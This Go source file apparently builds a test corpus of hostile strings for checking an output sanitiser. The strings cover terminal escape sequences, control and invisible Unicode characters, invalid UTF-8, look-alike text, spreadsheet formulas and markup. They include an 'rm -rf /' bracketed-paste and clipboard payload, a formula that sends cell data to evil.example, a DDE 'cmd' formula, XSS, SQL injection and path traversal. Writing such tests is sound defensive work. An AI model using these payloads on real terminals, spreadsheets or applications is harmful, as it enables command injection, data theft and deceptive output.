package hostile

import (
	"fmt"
	"strings"
)

type corpus struct{ texts []Text }

func (c *corpus) add(name, text string) {
	c.texts = append(c.texts, Text{Name: fmt.Sprintf("%03d %s", len(c.texts), name), Bytes: []byte(text)})
}

// escapes adds what terminals obey: CSI, OSC, DCS, APC, PM, SOS, in 7-bit, 8-bit and UTF-8 spelling, ended and unended.
func (c *corpus) escapes() {
	introducers := []struct{ name, seven, eight, end string }{
		{"CSI", "\x1b[", "\u009b", ""},
		{"OSC", "\x1b]", "\u009d", "\a"},
		{"DCS", "\x1bP", "\u0090", "\x1b\\"},
		{"APC", "\x1b_", "\u009f", "\x1b\\"},
		{"PM", "\x1b^", "\u009e", "\x1b\\"},
		{"SOS", "\x1bX", "\u0098", "\u009c"},
	}
	bodies := map[string][]string{
		"CSI": {"2J", "H", "31m", "0m", "6n", "c", ">c", "21t", "?1049h", "?1049l", "?25l", "?1000h", "?2004h", "1;1H", "10A", "2K", "8m", "5i", "4i", "3J", "!p", "200~rm -rf /\x1b[201~"},
		"OSC": {"0;title", "2;title", "8;;https://evil.example\aclick\x1b]8;;", "52;c;cm0gLXJmIC8=", "4;1;?", "10;?", "11;#000000", "50;?", "104", "777;notify;a;b", "1337;File=name=YQ==;inline=1:AAAA", "9;message"},
		"DCS": {"$qm", "+q544e", "tmux;\x1b\x1b]52;c;YQ==\a", "1;1|0/"},
		"APC": {"Gf=24,s=1,v=1;AAAA", "title"},
		"PM":  {"private"},
		"SOS": {"start"},
	}
	for _, in := range introducers {
		for _, body := range bodies[in.name] {
			c.add(in.name+" 7-bit", "k"+in.seven+body+in.end+"k")
			c.add(in.name+" in UTF-8 C1", "k"+in.eight+body+in.end+"k")
			if in.end != "" {
				c.add(in.name+" unended", "k"+in.seven+body)
			}
		}
	}
	for _, s := range []string{"c", "7", "8", "D", "M", "E", "#8", "(0", "%@", "=", ">", "N", "O", "Z"} {
		c.add("ESC "+s, "k\x1b"+s+"k")
	}
}

// controls adds every C0, DEL and every C1, and what CR and BS make of a line.
func (c *corpus) controls() {
	for r := rune(0); r < 0x20; r++ {
		c.add(fmt.Sprintf("C0 %02x", r), "a"+string(r)+"b")
	}
	c.add("DEL", "a\x7fb")
	for r := rune(0x80); r < 0xa0; r++ {
		c.add(fmt.Sprintf("C1 %02x", r), "a"+string(r)+"b")
	}
	c.add("CR overwrites", "executed: yes\rexecuted: no ")
	c.add("BS overwrites", "denied\b\b\b\b\b\bgranted")
	c.add("LF forges a line", "a\nidemctl: error: forged")
	c.add("CRLF forges a line", "a\r\nhint: run this")
	c.add("VT and FF", "a\v\fb")
	c.add("NUL ends nothing", "a\x00")
	c.add("NUL alone", "\x00")
}

// invisible adds what is not seen or reorders: bidi, zero width, tags, fillers, odd spaces, variation selectors, private and unassigned code points.
func (c *corpus) invisible() {
	for _, r := range []rune{
		0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
		0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2063, 0x206a, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffb,
		0x00a0, 0x1680, 0x2000, 0x2003, 0x2007, 0x200a, 0x2028, 0x2029, 0x202f, 0x205f, 0x2800, 0x3000,
		0xfe00, 0xfe0f, 0xe0100, 0xe01ef, 0xe0001, 0xe0041, 0xe007f, 0x1d173, 0x1bca0, 0x1f3fb,
		0x0378, 0xe000, 0xf8ff, 0xf0000, 0x10fffd, 0xfdd0, 0xfffe, 0x1ffff, 0x10ffff,
	} {
		c.add(fmt.Sprintf("U+%04X inside", r), "ab"+string(r)+"cd")
		c.add(fmt.Sprintf("U+%04X first", r), string(r)+"abcd")
	}
	c.add("bidi hides the extension", "invoice\u202Efdp.exe")
	c.add("bidi isolates", "\u2066key\u2069 \u2067yek\u2069")
	c.add("tags spell a word", "ok\U000E0068\U000E0069\U000E007F")
	c.add("zero-width joined emoji", "👩\u200d👩\u200d👧")
	c.add("flag", "🇨🇭")
	c.add("keycap", "1\ufe0f\u20e3")
	c.add("mark first", "\u0301a")
	c.add("mark after space", "a \u0301b")
	c.add("stacked marks", "e"+strings.Repeat("\u0301\u0323", 40))
	c.add("jamo vowel alone", "\u1161a")
	c.add("space first", " a")
	c.add("space last", "a ")
	c.add("spaces only", "   ")
}

// invalid adds bytes that are not UTF-8, each a different way.
func (c *corpus) invalid() {
	for _, s := range []string{
		"\xff", "\xfe", "\x80", "\xbf", "a\xffb", "a\x80b", "\xc0\x80", "\xc1\xbf", "\xc3", "a\xc3", "\xe2\x82", "\xe0\x80\x80", "\xed\xa0\x80", "\xed\xbf\xbf",
		"\xed\xa0\xbd\xed\xb8\x80", "\xf0\x9f\x98", "\xf0\x80\x80\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\x9b2J", "\x9d0;t\x9c", "\xff\xfea\x00", "\xef\xbb", "caf\xe9",
	} {
		c.add("not UTF-8", s)
	}
}

// lookalikes adds texts that differ in bytes and hardly in looks; the notation's own spelling is among them.
func (c *corpus) lookalikes() {
	for _, s := range []string{
		"paypal", "p\u0430ypal", "\u0440aypal", "ｐａｙｐａｌ", "Key", "KEY", "key", "\u212aey", "café", "cafe\u0301", "Å", "A\u030a", "\u212b", "ﬁ", "fi", "ß", "ss", "ẞ", "İ", "i\u0307", "ı",
		"1", "1.0", "01", "+1", "１", "１.0", "0", "O", "\u0421\u041e", "l", "I", "ΑΒ", "AB", "가", "\u1100\u1161", "한", "\u1112\u1161\u11ab", "が", "か\u3099", "ñ", "n\u0303",
		`\u{202e}`, `\\u{202e}`, `\xff`, `\\xff`, `\`, `\\`, `\\\`, `\u{`, `\u{}`, `\x`, `\xf`, `\u202e`, `a\nb`, `<U+202E>`, "…", "•••", "''", "null", "NULL", "", "*", "true", "-", "—", "–", "‐", "\ufffd",
	} {
		c.add("look-alike", s)
	}
}

// formulas adds what a spreadsheet would run.
func (c *corpus) formulas() {
	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u00a0=", "\u200b=", "\ufeff=", "＝", "＋", "－", "＠", "﹦", "'=", "\x00=", "\u3000@"} {
		c.add("formula", lead+`HYPERLINK("https://evil.example/?"&A1,"x")`)
		c.add("formula", lead+`cmd|' /C calc'!A0`)
	}
	c.add("formula after a separator", `a;=1+1`)
	c.add("formula after a quote", `a","=1+1`)
	c.add("formula after a line", "a\n=1+1")
}

// markup adds what other readers of an output would interpret.
func (c *corpus) markup() {
	for _, s := range []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{.}}`, `${HOME}`, `$(id)`, "`id`", `%s%n%d`, `'; DROP TABLE receipts; --`, `../../etc/passwd`, `a"b`, `a'b`, `a,b`, `{"k":1}`, `[1,2`, `&amp;`, `C:\temp\new`,
		strings.Repeat("A", 5000), strings.Repeat("界", 500),
	} {
		c.add("markup", s)
	}
}
